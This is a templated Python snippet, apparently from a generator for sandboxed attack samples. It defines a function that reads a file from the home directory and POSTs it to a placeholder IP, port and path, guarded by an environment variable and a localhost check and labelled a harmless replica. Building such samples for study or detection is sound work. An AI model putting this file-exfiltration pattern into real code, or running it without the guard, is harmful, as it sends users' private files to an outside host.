# Harmless replica: acts only on decoys and on addresses inside the sandbox's own network namespace; refuses to run elsewhere.
def {{act}}():
    import os
    if os.environ.get('SALLYPORT_CORPUS') != '1' or os.uname().nodename != 'localhost':
        return
    import urllib.request
    try:
        with open(os.path.expanduser('~/{{file}}'), 'rb') as text:
            urllib.request.urlopen('http://{{ip}}:{{port}}/{{path}}', text.read(), timeout=1).read(100)
    except Exception:
        pass
